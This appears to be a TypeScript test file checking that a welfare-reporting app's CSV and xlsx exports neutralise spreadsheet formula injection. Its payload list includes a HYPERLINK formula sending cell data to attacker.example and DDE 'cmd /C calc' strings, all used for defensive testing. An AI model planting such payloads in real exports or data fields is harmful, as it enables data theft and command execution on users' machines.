import ExcelJS from 'exceljs';
import { csvField, neutraliseFormula, toCsv, toXlsx, type ReportTable } from '../src/modules/analytics/analytics.export';

/** Names a district administrator can write (units, regions, rounds, cadres, household heads) that a spreadsheet would run. */
const FORMULA_NAMES = [
  '=HYPERLINK("http://attacker.example/?"&A1,"查看")',
  '+cmd|" /C calc"!A0',
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '\u3000=1+1',
  '＝HYPERLINK("http://attacker.example")',
  '＋1',
  '－1',
  '＠SUM(1)',
];

const PLAIN_NAMES = ['平山区民政局', '李秀兰', '210502001002', '东兴社区 (一组)', 'a=b', '1+1'];

describe('report exports', () => {
  it('CSV: every cell a spreadsheet would read as a formula is text, whatever name it comes from', () => {
    for (const name of FORMULA_NAMES) {
      expect(neutraliseFormula(name)).toBe(`'${name}`);
      const field = csvField(name);
      // Quoted only where CSV needs it; the apostrophe stays first inside the quotes.
      expect(field.replace(/^"/, '').startsWith(`'`)).toBe(true);
    }
    for (const name of PLAIN_NAMES) expect(csvField(name)).toBe(/[",]/.test(name) ? `"${name.replace(/"/g, '""')}"` : name);
  });

  it('CSV: numbers stay numbers (a negative amount is a number, not a formula), and empty stays empty', () => {
    expect(csvField(-12.5)).toBe('-12.5');
    expect(csvField(0)).toBe('0');
    expect(csvField(null)).toBe('');
    const table: ReportTable = { title: 't', headers: ['名称', '金额（元）'], rows: FORMULA_NAMES.map((name, index) => [name, -index - 0.5]) };
    const lines = toCsv(table)
      .toString('utf8')
      .replace(/^\uFEFF/, '')
      .split('\r\n');
    expect(lines[1]).toBe(`"'=HYPERLINK(""http://attacker.example/?""&A1,""查看"")",-0.5`);
    expect(lines[3]).toBe(`"'-2+3+cmd|"" /C calc""!A0",-2.5`);
  });

  it('xlsx: a formula-shaped name is a plain string cell, never a formula, hyperlink or rich text; amounts are numbers', async () => {
    const table: ReportTable = {
      title: '帮扶工作分类统计',
      headers: ['分组', '编码', '帮扶资金（元）'],
      rows: [...FORMULA_NAMES, 'http://attacker.example/'].map((name, index) => [name, String(index + 1), -index - 0.25]),
    };
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await toXlsx(table)) as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0]!;
    table.rows.forEach((row, index) => {
      const [name, code, amount] = [1, 2, 3].map((column) => sheet.getRow(index + 2).getCell(column));
      expect({ value: name!.value, type: name!.type, formula: name!.formula, hyperlink: name!.hyperlink }).toEqual({
        // XML reads a carriage return in text as a line feed; the cell is text either way.
        value: String(row[0]).replace(/\r/g, '\n'),
        type: ExcelJS.ValueType.String,
        formula: undefined,
        hyperlink: undefined,
      });
      expect(code!.type).toBe(ExcelJS.ValueType.String);
      expect({ value: amount!.value, type: amount!.type }).toEqual({ value: row[2], type: ExcelJS.ValueType.Number });
    });
  });
});
